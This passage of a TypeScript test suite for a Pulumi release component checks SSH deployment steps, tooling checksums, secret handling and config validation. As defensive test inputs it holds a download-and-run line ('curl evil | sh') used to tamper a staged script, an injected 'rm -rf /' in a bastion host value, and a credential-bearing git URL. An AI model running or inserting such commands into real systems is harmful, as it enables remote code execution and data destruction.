// The Release under mocks: `pulumi up` converging the hosts to release.version over SSH with
// nourishctl, step by step. The graph (dependsOn), the triggers, the SSH connection and its secret
// key, the config that turns it on, and the rendered commands run by the real tools that read them.
import * as assert from "assert";
import * as aws from "@pulumi/aws";
import * as pulumi from "@pulumi/pulumi";
import { generateKeyPairSync, KeyObject } from "crypto";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parse } from "yaml";
import { NourishLink } from "../components";
import { ConfigError, loadConfig, parseSettings } from "../components/config";
import { NOURISHCTL_LIB_PATH, NOURISHCTL_PATH } from "../components/hosts/user-data";
import { Release } from "../components/release";
import { keyPairProblem, parseSshPublicKey, privateKeyInfo } from "../components/release/ssh";
import {
  backupKeyFrom, releasePlan, shq, sshRoute, stagingPath, toolingFilesFor, toolingHash, toolingInstallCommand, toolingManifest, TOOLING_DIR,
} from "../components/release/steps";
import { hostFiles, toPlan, writeOut } from "../scripts/preview/plan";
import { programError, ProgramRun, RecordedResource, runProgram, runStack, stackConfig } from "./harness";
import { requireTool, run } from "./tools";

const COMMAND = "command:remote:Command";
const COPY = "command:remote:CopyToRemote";
const RELEASE = "nourish-link:release:Release";
const BUCKET = "nourish-link-releases";
const GIT_COMMIT = "4c9d381ee11d476062383b684cbe0d11fde4912d";
const PROD_SHA = "9b2e4c6a8d0f1e3c5a7b9d1f3e5c7a9b0d2f4e6c8a1b3d5f7e9c0a2b4d6f8e1a";

// --- keys, encoded here independently of components/release/ssh.ts ------------------------------

const sshString = (b: Buffer | string) => {
  const v = Buffer.from(b);
  const len = Buffer.alloc(4);
  len.writeUInt32BE(v.length);
  return Buffer.concat([len, v]);
};
const u32 = (n: number) => { const b = Buffer.alloc(4); b.writeUInt32BE(n); return b; };
const mpint = (b: Buffer) => sshString(b[0] & 0x80 ? Buffer.concat([Buffer.from([0]), b]) : b);

function publicLine(key: KeyObject, comment = "deploy@nourish-link"): string {
  const jwk = key.export({ format: "jwk" });
  const blob = jwk.kty === "OKP"
    ? Buffer.concat([sshString("ssh-ed25519"), sshString(Buffer.from(jwk.x!, "base64url"))])
    : Buffer.concat([sshString("ssh-rsa"), mpint(Buffer.from(jwk.e!, "base64url")), mpint(Buffer.from(jwk.n!, "base64url"))]);
  return `${jwk.kty === "OKP" ? "ssh-ed25519" : "ssh-rsa"} ${blob.toString("base64")} ${comment}`;
}

/** An OpenSSH-format private key container (as ssh-keygen writes) around a public key blob. */
function opensshContainer(line: string, cipher = "none"): string {
  const blob = Buffer.from(line.split(" ")[1], "base64");
  const body = Buffer.concat([
    Buffer.from("openssh-key-v1\0", "latin1"), sshString(cipher), sshString(cipher === "none" ? "none" : "bcrypt"),
    sshString(cipher === "none" ? Buffer.alloc(0) : Buffer.alloc(24, 7)), u32(1), sshString(blob), sshString(Buffer.alloc(64, 1)),
  ]);
  return `-----BEGIN OPENSSH PRIVATE KEY-----\n${body.toString("base64").match(/.{1,70}/g)!.join("\n")}\n-----END OPENSSH PRIVATE KEY-----\n`;
}

function ed25519(): { privateKey: string; publicKey: string } {
  const pair = generateKeyPairSync("ed25519");
  return { privateKey: pair.privateKey.export({ format: "pem", type: "pkcs8" }).toString(), publicKey: publicLine(pair.publicKey) };
}

/** Every line of a PEM key's base64 body: none may appear anywhere it was not meant to. */
const keyMaterial = (pem: string) => pem.split("\n").filter((l) => l && !l.startsWith("-----"));

// --- helpers over a recorded run --------------------------------------------------------------

function releaseResources(r: ProgramRun): RecordedResource[] {
  return r.resources.filter((x) => x.type === COMMAND || x.type === COPY);
}

function byName(r: ProgramRun): Map<string, RecordedResource> {
  return new Map(releaseResources(r).map((x) => [x.name, x]));
}

/** The release steps a step depends on, by name. */
function stepDeps(r: ProgramRun, name: string): string[] {
  const steps = byName(r);
  const urnToName = new Map(releaseResources(r).map((x) => [x.urn, x.name]));
  const step = steps.get(name);
  assert.ok(step, `no release step ${name} (have: ${[...steps.keys()].join(", ")})`);
  return step.dependsOn.map((u) => urnToName.get(u)).filter((n): n is string => n !== undefined).sort();
}

function triggersOf(r: ProgramRun): Record<string, unknown> {
  return Object.fromEntries(releaseResources(r).map((x) => [x.name, x.inputs.triggers]));
}

const instanceId = (r: ProgramRun, name: string) => {
  const found = r.resources.filter((x) => x.type === "aws:ec2/instance:Instance" && x.name === name);
  assert.strictEqual(found.length, 1, `one instance ${name}`);
  return found[0].id;
};

describe("Release", () => {
  const keys = ed25519();
  /** What turns the Release on, besides the secret key itself. */
  const enable = (extra: Record<string, unknown> = {}) => ({
    network: { sshAccess: true },
    release: { ssh: { publicKey: keys.publicKey }, artifact: { bucket: BUCKET } },
    ...extra,
  });
  let prod: ProgramRun;
  before(async () => {
    prod = await runStack("prod", { set: enable(), secrets: { deploySshKey: keys.privateKey } });
  });

  describe("only with a deploy key", () => {
    it("registers no Release, no command and no release output without deploySshKey (the committed stacks)", async () => {
      for (const stack of ["staging", "prod"]) {
        const r = await runStack(stack);
        assert.deepStrictEqual(r.resources.filter((x) => x.type.startsWith("command:") || x.type === RELEASE).map((x) => x.name), [], stack);
        assert.ok(!("releaseSteps" in r.outputs) && !("releasePreReleaseBackup" in r.outputs), `${stack}: release outputs without a release`);
        assert.strictEqual(r.outputs.releaseVersion, stack === "prod" ? "1.4.1" : "1.4.2");
        assert.ok(!hostFiles(r).some((f) => f.content.includes("ssh_authorized_keys")), `${stack}: a key is authorized without one configured`);
      }
    });

    it("adds exactly the Release's resources and changes nothing else", async () => {
      const without = await runStack("prod", { set: enable() });
      const before = new Map(without.resources.map((x) => [x.urn, x]));
      const added = prod.resources.filter((x) => !before.has(x.urn));
      assert.ok(!without.resources.some((x) => !prod.resources.some((y) => y.urn === x.urn)), "the deploy key removed a resource");
      const release = prod.resources.find((x) => x.type === RELEASE)!;
      assert.deepStrictEqual(added.filter((x) => x.urn !== release.urn && x.parent !== release.urn).map((x) => x.name), [], "added outside the Release");
      assert.deepStrictEqual(added.map((x) => x.type).sort(), [RELEASE, "aws:iam/rolePolicy:RolePolicy", ...Array(13).fill(COMMAND), ...Array(3).fill(COPY)].sort());
      for (const x of without.resources) {
        assert.deepStrictEqual(prod.resources.find((y) => y.urn === x.urn)!.inputs, x.inputs, `${x.name} changed with the deploy key`);
      }
    });
  });

  describe("the steps and their order", () => {
    it("runs the manual's order: tooling, backup on the db host, fetch, migrate on app-0, collectstatic, switch one host after the other, verify", () => {
      const all = ["db", "app-0", "app-1"];
      for (const h of all) assert.deepStrictEqual(stepDeps(prod, `release-tooling-install-${h}`), [`release-tooling-copy-${h}`]);
      for (const h of all) assert.deepStrictEqual(stepDeps(prod, `release-tooling-copy-${h}`), [], "the copy waits for nothing but its host");
      assert.deepStrictEqual(stepDeps(prod, "release-backup-db"), all.map((h) => `release-tooling-install-${h}`).sort());
      for (const i of [0, 1]) assert.deepStrictEqual(stepDeps(prod, `release-fetch-app-${i}`), ["release-backup-db", `release-tooling-install-app-${i}`]);
      assert.deepStrictEqual(stepDeps(prod, "release-migrate-app-0"), ["release-fetch-app-0", "release-fetch-app-1"]);
      assert.deepStrictEqual([...byName(prod).keys()].filter((n) => n.includes("-migrate-")), ["release-migrate-app-0"], "migrations run on the first app host only");
      for (const i of [0, 1]) assert.deepStrictEqual(stepDeps(prod, `release-collectstatic-app-${i}`), [`release-fetch-app-${i}`, "release-migrate-app-0"]);
      // The first switch waits for every host's static files; the second for the first switch.
      assert.deepStrictEqual(stepDeps(prod, "release-switch-app-0"), ["release-backup-db", "release-collectstatic-app-0", "release-collectstatic-app-1"]);
      assert.deepStrictEqual(stepDeps(prod, "release-switch-app-1"), ["release-backup-db", "release-switch-app-0"]);
      for (const i of [0, 1]) assert.deepStrictEqual(stepDeps(prod, `release-verify-app-${i}`), ["release-switch-app-0", "release-switch-app-1"]);
    });

    it("waits for the hosts: the db steps for the data volume's attachment, fetches for the artifact grant", () => {
      const urn = (type: string, name: string) => prod.resources.find((x) => x.type === type && x.name === name)!.urn;
      const attachment = urn("aws:ec2/volumeAttachment:VolumeAttachment", "database-data");
      for (const n of ["release-tooling-copy-db", "release-tooling-install-db", "release-backup-db"]) assert.ok(byName(prod).get(n)!.dependsOn.includes(attachment), n);
      const grant = urn("aws:iam/rolePolicy:RolePolicy", "release-artifact-read");
      for (const i of [0, 1]) assert.ok(byName(prod).get(`release-fetch-app-${i}`)!.dependsOn.includes(grant));
    });

    it("exports the steps in an order that respects every dependency, and the pre-release backup", () => {
      const steps = prod.outputs.releaseSteps as string[];
      assert.deepStrictEqual([...steps].sort(), [...byName(prod).keys()].sort());
      steps.forEach((s, i) => {
        for (const d of stepDeps(prod, s)) assert.ok(steps.indexOf(d) < i, `${s} is listed before ${d}, which it waits for`);
      });
      assert.deepStrictEqual(steps.slice(-4), ["release-switch-app-0", "release-switch-app-1", "release-verify-app-0", "release-verify-app-1"]);
      assert.strictEqual(prod.outputs.releasePreReleaseBackup, byName(prod).get("release-switch-app-0")!.inputs.create!.toString().split(" ").pop());
    });

    it("runs exactly the nourishctl verbs of the contract, each on its host", () => {
      const cmd = (n: string) => byName(prod).get(n)!.inputs.create;
      const ctl = `sudo -n ${NOURISHCTL_PATH}`;
      assert.strictEqual(cmd("release-backup-db"), `${ctl} backup`);
      for (const i of [0, 1]) {
        assert.strictEqual(cmd(`release-fetch-app-${i}`), `${ctl} release fetch 1.4.1 --s3 s3://${BUCKET}/releases/nourish-link-1.4.1.tar.gz --sha256 ${PROD_SHA}`);
        assert.strictEqual(cmd(`release-collectstatic-app-${i}`), `${ctl} release collectstatic 1.4.1`);
        // The key the backup printed last (the mocks "print" one line per command).
        assert.match(String(cmd(`release-switch-app-${i}`)), new RegExp(`^${ctl} release switch 1\\.4\\.1 --pre-release-backup dumps/daily/db_backup_20000101_020000\\.dump$`));
        assert.strictEqual(cmd(`release-verify-app-${i}`), `${ctl} release verify 1.4.1`);
      }
      assert.strictEqual(cmd("release-migrate-app-0"), `${ctl} release migrate 1.4.1`);
      // Each step's last trigger is its host's instance: the db host backs up, app-0 migrates.
      const hostOf = (n: string) => (byName(prod).get(n)!.inputs.triggers as string[]).at(-1);
      assert.strictEqual(hostOf("release-backup-db"), instanceId(prod, "database-host"));
      assert.strictEqual(hostOf("release-migrate-app-0"), instanceId(prod, "app-0"));
      assert.strictEqual(hostOf("release-switch-app-1"), instanceId(prod, "app-1"));
    });

    it("fetches the pinned commit (and its tag) from git without an S3 grant; grants S3 read on the artifact's folder only", async () => {
      const grant = JSON.parse(String(prod.resources.find((x) => x.name === "release-artifact-read")!.inputs.policy));
      assert.deepStrictEqual(grant.Statement, [{ Sid: "ReadReleaseArtifacts", Effect: "Allow", Action: "s3:GetObject", Resource: `arn:aws:s3:::${BUCKET}/releases/*` }]);
      const r = await runGitStack(keys);
      assert.strictEqual(byName(r).get("release-fetch-app-0")!.inputs.create,
        `sudo -n ${NOURISHCTL_PATH} release fetch 1.4.1 --git https://github.com/nourish-link/dusangire.git --commit ${GIT_COMMIT} --tag v1.4.1-rc`);
      assert.ok(!r.resources.some((x) => x.name === "release-artifact-read"));
      assert.strictEqual((byName(r).get("release-migrate-app-0")!.inputs.triggers as string[])[1], `artifact:git:https://github.com/nourish-link/dusangire.git#${GIT_COMMIT}`);
    });
  });

  describe("triggers", () => {
    it("carry the version, the artifact's checksum, the tooling hash and the host; the copy only the tooling and the host", () => {
      const hash = toolingHash();
      for (const x of releaseResources(prod)) {
        const t = x.inputs.triggers as string[];
        const host = x.name.endsWith("-db") ? instanceId(prod, "database-host") : instanceId(prod, x.name.slice(-5));
        if (x.type === COPY) assert.deepStrictEqual(t, [`tooling:${hash}`, host], x.name);
        else assert.deepStrictEqual(t, ["version:1.4.1", `artifact:sha256:${PROD_SHA}`, `tooling:${hash}`, host], x.name);
      }
    });

    it("are identical for the same config (an unchanged `pulumi up` runs nothing)", async () => {
      const again = await runStack("prod", { set: enable(), secrets: { deploySshKey: keys.privateKey } });
      assert.deepStrictEqual(triggersOf(again), triggersOf(prod));
      const create = (r: ProgramRun) => Object.fromEntries(releaseResources(r).map((x) => [x.name, x.inputs.create ?? x.inputs.remotePath]));
      assert.deepStrictEqual(create(again), create(prod));
    });

    it("change on every step for a new version (rollback included) or artifact, but not on the copy", async () => {
      for (const release of [{ version: "1.4.0" }, { artifact: { sha256: "0".repeat(64) } }]) {
        const other = await runStack("prod", { set: enable({ release: { ...release, ssh: { publicKey: keys.publicKey }, artifact: { bucket: BUCKET, ...(release as { artifact?: object }).artifact } } }), secrets: { deploySshKey: keys.privateKey } });
        const a = triggersOf(prod);
        const b = triggersOf(other);
        for (const [name, t] of Object.entries(a)) {
          if (byName(prod).get(name)!.type === COPY) assert.deepStrictEqual(b[name], t, `${name} re-runs without a tooling change`);
          else assert.notDeepStrictEqual(b[name], t, `${name} does not re-run for ${JSON.stringify(release)}`);
        }
      }
    });

    it("change on every step, the copy too, when one byte of the host tooling changes", async () => {
      const dir = copyTooling();
      try {
        const first = await runRelease(dir);
        const lib = path.join(dir, "lib", fs.readdirSync(path.join(dir, "lib"))[0]);
        fs.appendFileSync(lib, "#");
        const second = await runRelease(dir);
        const t1 = triggersOf(first);
        const t2 = triggersOf(second);
        assert.deepStrictEqual(Object.keys(t2).sort(), Object.keys(t1).sort());
        assert.deepStrictEqual(Object.keys(t1).sort(), ["tooling-copy-db", "tooling-install-db", "tooling-copy-app-0", "tooling-install-app-0", "backup-db",
          "fetch-app-0", "migrate-app-0", "collectstatic-app-0", "switch-app-0", "verify-app-0"].map((n) => `release-${n}`).sort());
        for (const name of Object.keys(t1)) {
          assert.notDeepStrictEqual(t2[name], t1[name], `${name} ignores the tooling change`);
          const tooling = (t: unknown) => (t as string[]).find((x) => x.startsWith("tooling:"));
          assert.strictEqual(tooling(t2[name]), `tooling:${toolingHash(dir)}`);
        }
        assert.notStrictEqual(byName(second).get("release-tooling-copy-db")!.inputs.remotePath, byName(first).get("release-tooling-copy-db")!.inputs.remotePath);
      } finally {
        fs.rmSync(path.dirname(dir), { recursive: true, force: true });
      }
    });
  });

  describe("the tooling hash", () => {
    it("covers every file of scripts/host, by name and content", () => {
      const dir = copyTooling();
      try {
        const base = toolingHash(dir);
        assert.strictEqual(base, toolingHash(TOOLING_DIR), "a copy hashes like the original");
        assert.match(base, /^[0-9a-f]{64}$/);
        const files = toolingManifest(dir).map((l) => l.slice(66));
        assert.ok(files.includes("nourishctl") && files.some((f) => f.startsWith("lib/")), files.join(", "));
        const cli = path.join(dir, "nourishctl");
        const original = fs.readFileSync(cli);
        const flipped = Buffer.from(original);
        flipped[flipped.length - 2] ^= 1;
        fs.writeFileSync(cli, flipped);
        assert.notStrictEqual(toolingHash(dir), base, "one flipped bit");
        fs.writeFileSync(cli, original);
        assert.strictEqual(toolingHash(dir), base);
        fs.writeFileSync(path.join(dir, "lib", "zz-new.sh"), "");
        assert.notStrictEqual(toolingHash(dir), base, "a new (empty) file");
        fs.rmSync(path.join(dir, "lib", "zz-new.sh"));
        const lib = fs.readdirSync(path.join(dir, "lib"))[0];
        fs.renameSync(path.join(dir, "lib", lib), path.join(dir, "lib", `renamed-${lib}`));
        assert.notStrictEqual(toolingHash(dir), base, "a renamed file");
      } finally {
        fs.rmSync(path.dirname(dir), { recursive: true, force: true });
      }
    });

    it("stages each tooling version in its own directory in the SSH user's home", () => {
      assert.strictEqual(stagingPath("admin", "ab".repeat(32)), `/home/admin/nourish-link-tooling-${"ab".repeat(8)}`);
      assert.strictEqual(stagingPath("root", "cd".repeat(32)), `/root/nourish-link-tooling-${"cd".repeat(8)}`);
      for (const x of ofTypeCopy(prod)) {
        assert.strictEqual(x.inputs.remotePath, stagingPath("admin", toolingHash()));
        assert.deepStrictEqual(x.inputs.source, { path: TOOLING_DIR, text: undefined, uri: undefined });
      }
    });
  });

  describe("the tooling install command, run by bash against a sandbox", () => {
    let sandbox: string;
    let home: string;
    let bin: string;
    const log = () => path.join(sandbox, "calls.log");
    beforeEach(() => {
      sandbox = fs.mkdtempSync(path.join(os.tmpdir(), "nl-install-"));
      home = path.join(sandbox, "home");
      bin = path.join(sandbox, "bin");
      fs.mkdirSync(bin);
      fs.mkdirSync(home);
      // sudo records what it was asked to do; cloud-init answers with $CLOUD_INIT_RC.
      fs.writeFileSync(path.join(bin, "sudo"), `#!/bin/sh\necho "$*" >> '${log()}'\n`, { mode: 0o755 });
      fs.writeFileSync(path.join(bin, "cloud-init"), "#!/bin/sh\nexit \"${CLOUD_INIT_RC:-0}\"\n", { mode: 0o755 });
    });
    afterEach(() => fs.rmSync(sandbox, { recursive: true, force: true }));

    /** Stages scripts/host as CopyToRemote would (remotePath/host) under the sandbox's home and runs the command. */
    function install(role: "app" | "db", opts: { tamper?: boolean; cloudInitRc?: number } = {}) {
      const hash = toolingHash();
      const staging = stagingPath("admin", hash).replace("/home/admin", home);
      fs.cpSync(TOOLING_DIR, path.join(staging, "host"), { recursive: true });
      if (opts.tamper) fs.appendFileSync(path.join(staging, "host", "nourishctl"), "\ncurl evil | sh\n");
      const cmd = toolingInstallCommand(role, "admin").replaceAll("/home/admin", home);
      return run("bash", ["-c", cmd], { env: { ...process.env, PATH: `${bin}:${process.env.PATH}`, CLOUD_INIT_RC: String(opts.cloudInitRc ?? 0) } });
    }
    const calls = () => (fs.existsSync(log()) ? fs.readFileSync(log(), "utf8").trim().split("\n") : []);

    it("checks the staged files' SHA-256, then installs the role's files as root: libraries, then the CLI", () => {
      fs.mkdirSync(path.join(home, "nourish-link-tooling-0123456789abcdef"));
      const r = install("app");
      assert.strictEqual(r.status, 0, r.stderr);
      assert.match(r.stdout, new RegExp(`tooling ${toolingHash().slice(0, 16)} installed`));
      const files = toolingFilesFor("app");
      assert.deepStrictEqual(calls(), [
        `-n install -d -m 0755 -o root -g root ${NOURISHCTL_LIB_PATH}`,
        ...files.map((f) => `-n install -m ${f.mode} -o root -g root ${f.source} ${f.target}`),
        `-n find ${NOURISHCTL_LIB_PATH} -maxdepth 1 -type f -name *.sh ${files.filter((f) => f.source.startsWith("lib/")).map((f) => `! -name ${path.basename(f.target)}`).join(" ")} -delete`,
      ]);
      assert.strictEqual(files.at(-1)!.target, NOURISHCTL_PATH, "the CLI goes last");
      assert.ok(!files.some((f) => f.source === "lib/maintain.sh"), "database verbs stay off the app hosts");
      // The older staging directory is gone, this version's stays for a re-run.
      assert.deepStrictEqual(fs.readdirSync(home), [path.basename(stagingPath("admin", toolingHash()))]);
      assert.strictEqual(install("app").status, 0, "safe to re-run");
    });

    it("refuses a staged file that differs from the repository's, installing nothing", () => {
      const r = install("db", { tamper: true });
      assert.notStrictEqual(r.status, 0);
      assert.match(r.stderr, /nourishctl: FAILED|WARNING: 1 computed checksum did NOT match/);
      assert.deepStrictEqual(calls(), []);
    });

    it("waits for first boot and stops when it failed (cloud-init status 1); 2 (recoverable) is fine", () => {
      const failed = install("db", { cloudInitRc: 1 });
      assert.strictEqual(failed.status, 1);
      assert.match(failed.stderr, /first boot did not finish cleanly \(cloud-init status 1\)/);
      assert.deepStrictEqual(calls(), []);
      assert.strictEqual(install("db", { cloudInitRc: 2 }).status, 0);
      assert.ok(calls().some((c) => c.endsWith(`lib/maintain.sh ${NOURISHCTL_LIB_PATH}/maintain.sh`)), "the db host gets its verbs");
    });

    it("every command of the plan passes shellcheck", () => {
      requireTool("shellcheck");
      for (const [name, x] of byName(prod)) {
        if (x.type !== COMMAND) continue;
        const file = path.join(sandbox, `${name}.sh`);
        fs.writeFileSync(file, `#!/bin/bash\n${x.inputs.create}\n`);
        const r = run("shellcheck", ["-s", "bash", file]);
        assert.strictEqual(r.status, 0, `${name}:\n${r.stdout}`);
      }
    });
  });

  describe("SSH", () => {
    it("connects to each host's private IP as admin, through the bastion when configured, with the key as a secret", async () => {
      const captured = await connections({ bastion: { host: "bastion.nourishlink.rw", port: 2222 } });
      assert.deepStrictEqual(Object.keys(captured.connections).sort(), [...byName(prod).keys()].sort());
      for (const [name, c] of Object.entries(captured.connections)) {
        const host = name.endsWith("-db") ? "database-host" : name.slice(-5);
        assert.strictEqual(c.value.host, captured.privateIps[host], `${name} connects to ${c.value.host}`);
        assert.match(c.value.host, /^10\.\d+\.\d+\.\d+$/);
        assert.strictEqual(c.value.user, "admin");
        assert.strictEqual(c.value.port, 22);
        assert.strictEqual(c.value.privateKey, keys.privateKey);
        const { host: ph, user: pu, port: pp, privateKey: pk } = c.value.proxy ?? {};
        assert.deepStrictEqual({ host: ph, user: pu, port: pp, privateKey: pk }, { host: "bastion.nourishlink.rw", user: "admin", port: 2222, privateKey: keys.privateKey });
        assert.strictEqual(c.secret, true, `${name}: the connection is not secret`);
      }
      const direct = await connections({ user: "deploy" });
      for (const c of Object.values(direct.connections)) {
        assert.strictEqual(c.value.proxy, undefined, "a proxy without a bastion");
        assert.strictEqual(c.value.user, "deploy");
      }
      assert.deepStrictEqual(sshRoute({ bastion: { host: "203.0.113.5", user: "jump" } }), { user: "admin", port: 22, proxy: { host: "203.0.113.5", user: "jump", port: 22 } });
    });

    it("keeps the private key out of the plan, the host files and the outputs: the plan shows [secret]", () => {
      for (const x of releaseResources(prod)) assert.strictEqual(x.inputs.connection, "[secret]", x.name);
      const everything = JSON.stringify(toPlan(prod)) + JSON.stringify(prod.outputs) + hostFiles(prod).map((f) => f.content).join("\n");
      for (const line of keyMaterial(keys.privateKey)) assert.ok(!everything.includes(line), "deploy key material leaked");
      // The public half is meant to be there: the hosts authorize it.
      assert.ok(everything.includes(keys.publicKey.split(" ")[1]));
    });

    it("logs our own verbs' output; keeps pip's, git's and Django's out of the state", async () => {
      const secretOutputs = await recordSecretOutputs();
      for (const [name, x] of byName(prod)) {
        if (x.type !== COMMAND) continue;
        const chatty = /-(fetch|migrate|collectstatic)-/.test(name);
        assert.strictEqual(x.inputs.logging, chatty ? "stderr" : "stdoutAndStderr", name);
        assert.strictEqual(x.inputs.addPreviousOutputInEnv, false, name);
        assert.deepStrictEqual([...secretOutputs[name]].sort(), chatty ? ["connection", "stderr", "stdout"] : ["connection"], name);
      }
    });

    it("authorizes the public key in every host's cloud-init, for admin or a created sudo user, as `cloud-init schema` accepts", async () => {
      requireTool("cloud-init");
      const out = fs.mkdtempSync(path.join(os.tmpdir(), "nl-release-ud-"));
      try {
        const deploy = await runStack("prod", { set: enable({ release: { ssh: { publicKey: keys.publicKey, user: "deploy" }, artifact: { bucket: BUCKET } } }), secrets: { deploySshKey: keys.privateKey } });
        for (const [label, r] of [["admin", prod], ["deploy", deploy]] as const) {
          writeOut(path.join(out, label), r);
          for (const role of ["app", "db"]) {
            const file = path.join(out, label, "hosts", role, "user-data.yaml");
            const doc = parse(fs.readFileSync(file, "utf8")) as { ssh_authorized_keys?: string[]; users?: unknown[] };
            if (label === "admin") assert.deepStrictEqual(doc.ssh_authorized_keys, [keys.publicKey], `${role}`);
            else assert.deepStrictEqual(doc.users, ["default", { name: "deploy", shell: "/bin/bash", lock_passwd: true, sudo: "ALL=(ALL) NOPASSWD:ALL", ssh_authorized_keys: [keys.publicKey] }]);
            const s = run("cloud-init", ["schema", "--config-file", file]);
            assert.strictEqual(s.status, 0, `${label}/${role}: ${s.stdout}${s.stderr}`);
          }
        }
      } finally {
        fs.rmSync(out, { recursive: true, force: true });
      }
    });
  });

  describe("host.env", () => {
    it("gives app hosts KEEP_RELEASES and HEALTH_PATH from release config, and the db host neither", async () => {
      const env = (r: ProgramRun, role: string) => hostFiles(r).find((f) => f.role === role && f.path === "/etc/nourish-link/host.env")?.content ?? "";
      const staging = await runStack("staging");
      assert.match(env(staging, "app"), /^KEEP_RELEASES=5$/m);
      assert.match(env(staging, "app"), /^HEALTH_PATH=\/health\/$/m);
      assert.doesNotMatch(env(staging, "db"), /KEEP_RELEASES|HEALTH_PATH/);
      const custom = await runStack("staging", { set: { release: { keepReleases: 9, healthPath: "/healthz" } } });
      assert.match(env(custom, "app"), /^KEEP_RELEASES=9$/m);
      assert.match(env(custom, "app"), /^HEALTH_PATH=\/healthz$/m);
    });
  });

  describe("config", () => {
    const problemsOf = (raw: Record<string, unknown>, stack = "prod"): string[] => {
      try {
        parseSettings(raw, stack);
      } catch (e) {
        assert.ok(e instanceof ConfigError, String(e));
        return e.problems;
      }
      return [];
    };
    const raw = (over: Record<string, unknown> = {}) => {
      const { config } = stackConfig("prod", { set: enable(over) });
      const out: Record<string, unknown> = {};
      for (const [k, v] of Object.entries(config)) if (k.startsWith("nourish-link:")) { try { out[k.slice(13)] = JSON.parse(v); } catch { out[k.slice(13)] = v; } }
      return out;
    };

    it("accepts a matching pair in OpenSSH, PKCS#8 and PKCS#1 formats", () => {
      assert.deepStrictEqual(problemsOf({ ...raw(), deploySshKey: keys.privateKey }), []);
      assert.deepStrictEqual(problemsOf({ ...raw(), deploySshKey: opensshContainer(keys.publicKey) }), []);
      const rsa = generateKeyPairSync("rsa", { modulusLength: 2048 });
      const rsaLine = publicLine(rsa.publicKey, "ci");
      assert.deepStrictEqual(problemsOf({ ...raw({ release: { ssh: { publicKey: rsaLine }, artifact: { bucket: BUCKET } } }), deploySshKey: rsa.privateKey.export({ format: "pem", type: "pkcs1" }).toString() }), []);
      assert.strictEqual(parseSshPublicKey(rsaLine)?.type, "ssh-rsa");
      assert.strictEqual(keyPairProblem(keys.privateKey, rsaLine)?.startsWith("is not the public half"), true);
    });

    it("deploySshKey without release.ssh.publicKey", async () => {
      const message = await programError(runStack("prod", { set: { network: { sshAccess: true }, release: { artifact: { bucket: BUCKET } } }, secrets: { deploySshKey: keys.privateKey } }));
      assert.match(message, /^ {2}nourish-link:release\.ssh\.publicKey is required when deploySshKey is set: the hosts must authorize/m);
      assert.strictEqual(message.split("\n").length, 2, message);
    });

    it("deploySshKey in plain text: names the key, quotes none of it, registers nothing", async () => {
      const resources: RecordedResource[] = [];
      const config = stackConfig("prod", { set: { ...enable(), deploySshKey: keys.privateKey } });
      const message = await programError(runProgram({ stack: "prod", ...config, resources }));
      assert.match(message, /nourish-link:deploySshKey must be set with --secret \(pulumi config set --secret deploySshKey …\)/);
      for (const line of keyMaterial(keys.privateKey)) assert.ok(!message.includes(line), "the error quotes the key");
      assert.deepStrictEqual(resources.map((r) => r.type), ["pulumi:pulumi:Stack"]);
    });

    it("names each other problem: wrong half, unusable or encrypted key, no SSH, no backup, no bucket, bad public key or bastion", () => {
      const other = ed25519();
      const expect = (over: Record<string, unknown>, key: string | undefined, expected: RegExp) => {
        const found = problemsOf({ ...raw(over), ...(key === undefined ? {} : { deploySshKey: key }) });
        assert.ok(found.some((p) => expected.test(p)), `expected ${expected}, got:\n${found.join("\n")}`);
        for (const line of keyMaterial(key ?? "")) assert.ok(!found.join("\n").includes(line), "a problem quotes the key");
      };
      expect({}, other.privateKey, /^nourish-link:release\.ssh\.publicKey is not the public half of deploySshKey/);
      expect({}, "hunter2", /^nourish-link:deploySshKey must be an ed25519 or RSA \(2048 bits or more\) private key/);
      expect({}, generateKeyPairSync("rsa", { modulusLength: 1024 }).privateKey.export({ format: "pem", type: "pkcs1" }).toString(), /^nourish-link:deploySshKey must be an ed25519 or RSA \(2048 bits or more\)/);
      expect({}, opensshContainer(keys.publicKey, "aes256-ctr"), /^nourish-link:deploySshKey must be an unencrypted private key/);
      expect({}, generateKeyPairSync("ec", { namedCurve: "P-256" }).privateKey.export({ format: "pem", type: "pkcs8" }).toString(), /^nourish-link:deploySshKey must be an ed25519 or RSA \(2048 bits or more\) private key/);
      expect({ network: { sshAccess: false } }, keys.privateKey, /^nourish-link:network\.sshAccess must be true when deploySshKey is set/);
      expect({ database: { managed: true } }, keys.privateKey, /^nourish-link:deploySshKey requires database\.managed: false/);
      expect({ backups: { enabled: false, pitr: false } }, keys.privateKey, /^nourish-link:deploySshKey requires backups\.enabled: true/);
      expect({ release: { ssh: { publicKey: keys.publicKey }, artifact: { bucket: undefined } } }, keys.privateKey, /^nourish-link:release\.artifact\.bucket is required when deploySshKey is set/);
      expect({ release: { ssh: { publicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x" } } }, undefined, /^nourish-link:release\.ssh\.publicKey must be one OpenSSH public key line/);
      expect({ release: { ssh: { publicKey: keys.publicKey.replace("ssh-ed25519", "ssh-rsa") } } }, undefined, /^nourish-link:release\.ssh\.publicKey must be one OpenSSH public key line/);
      expect({ release: { ssh: { publicKey: keys.publicKey, bastion: { host: "bastion; rm -rf /" } } } }, undefined, /^nourish-link:release\.ssh\.bastion\.host must be a DNS name or an IPv4 address/);
      expect({ release: { ssh: { publicKey: keys.publicKey, user: "Admin!" } } }, undefined, /^nourish-link:release\.ssh\.user must be a Linux user name/);
      expect({ release: { artifact: { type: "git", url: "https://ci:ghp_token@github.com/nourish-link/dusangire.git", ref: "v1", key: undefined, sha256: undefined, bucket: undefined } } }, undefined, /^nourish-link:release\.artifact\.url must not carry credentials/);
    });

    it("a git artifact names its full commit, a tag that cannot be an option, and a URL without credentials", () => {
      const commit = "4c9d381ee11d476062383b684cbe0d11fde4912d";
      const git = (a: Record<string, unknown>) => {
        const settings = raw();
        const release = settings.release as Record<string, unknown>;
        const artifact = Object.fromEntries(Object.entries({ type: "git", url: "git@github.com:nourish-link/dusangire.git", commit, ...a }).filter(([, v]) => v !== undefined));
        return problemsOf({ ...settings, release: { ...release, artifact } });
      };
      assert.deepStrictEqual(git({ tag: "v1.4.2" }), []);
      const refused = (a: Record<string, unknown>, expected: RegExp, secret?: string) => {
        const found = git(a);
        assert.ok(found.some((p) => expected.test(p)), `${JSON.stringify(a)}: expected ${expected}, got:\n${found.join("\n")}`);
        if (secret) assert.ok(!found.join("\n").includes(secret), "a problem quotes the credential");
      };
      const credentials = /^nourish-link:release\.artifact\.url must not carry credentials/;
      for (const [url, secret] of [
